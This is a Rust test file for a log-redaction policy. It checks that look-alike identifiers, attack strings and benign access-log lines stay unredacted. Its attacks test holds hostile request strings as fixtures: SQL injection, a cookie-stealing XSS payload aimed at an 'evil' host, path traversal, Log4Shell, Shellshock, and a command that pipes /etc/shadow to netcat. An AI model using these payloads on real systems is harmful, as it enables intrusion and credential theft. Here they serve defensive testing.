//! What must not be touched: look-alikes, attacks that detection reads later, real access logs.

use event::{Event, field};

use super::policy;

fn check(texts: &[&str]) {
    let policy = policy();
    for text in texts {
        assert_eq!(policy.text(text), *text);
    }
}

#[test]
fn look_alikes() {
    check(&[
        "order 2024-000123456789 shipped",
        "123e4567-e89b-12d3-a456-426614174000",
        "trace_id=4bf92f3577b34da6a3ce929d0e0e4736 span_id=00f067aa0ba902b7",
        "commit 9fceb02d0ae598e95dc970b74767f19372d61af8",
        "at 1700000000000 took 12.5 ms",
        "version 10.0.19041.1288 build 4111.1111.1111.1111",
        "2001:db8:85a3::8a2e:370:7334 de:ad:be:ef:00:01",
        "tokens_in=18240 passenger=12 author=jane pinned=true key_id=abc max_tokens=100",
        "Android 502 28601 28601 4111 1111 11 11",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        "4111111111111111.5 and 0.4111111111111111 and x4111111111111111f",
        "alice@example.com called +49 30 901820 from 10.0.0.1",
        "user.sid=S-1-5-21-3623811015-3361044348-30300820-1013 [sid:2010935]",
        "key=value primary_key=12 signature=ok auth=basic state=abc",
        "C:\\Users\\new\\token.txt \\\\server\\share",
    ]);
}

#[test]
fn attacks() {
    check(&[
        "/item?id=1' OR '1'='1' --",
        "/item?id=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
        "/q?s=<script>new Image().src='//evil/?c='+document.cookie</script>",
        "/q?s=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/get?file=../../../../etc/passwd%00.png",
        "/get?file=..%252f..%252f..%252fetc%252fpasswd",
        "/cgi-bin/;cat /etc/shadow|nc 10.0.0.9 4444",
        "${jndi:ldap://evil.example/a}",
        "() { :; }; /bin/bash -c 'id'",
    ]);
    let sql = policy()
        .text("/login?user=admin'--&password=hunter2")
        .into_owned();
    assert_eq!(sql, "/login?user=admin'--&password=[REDACTED:password]");
}

#[test]
fn real_access_log_lines() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../fixtures/logs/apache_benign_5k.log"
    );
    let Ok(log) = std::fs::read_to_string(path) else {
        return; // The crate alone, without the repository's fixtures.
    };
    let policy = policy();
    let mut touched = Vec::new();
    for line in log.lines() {
        let quoted: Vec<&str> = line.split('"').collect();
        let [_, request, _, referrer, _, agent, ..] = quoted[..] else {
            continue;
        };
        let mut event = Event::new();
        event.push_str(field::URL_ORIGINAL, request.split(' ').nth(1).unwrap_or(""));
        event.push_str(field::HTTP_REQUEST_REFERRER, referrer);
        event.push_str(field::USER_AGENT_ORIGINAL, agent);
        event.push_str(field::EVENT_ORIGINAL, line);
        let redacted = policy.apply(event);
        // The forum software behind these referrers writes its session id as `sid=<32 hex>`.
        let session = line.contains("&sid=") && redacted.body().contains("&sid=h1:k1:");
        if redacted.event().has(field::BELFRY_REDACTION_COUNT) && !session {
            touched.push(redacted.body().to_owned());
        }
    }
    assert!(touched.is_empty(), "{} lines: {touched:#?}", touched.len());
}
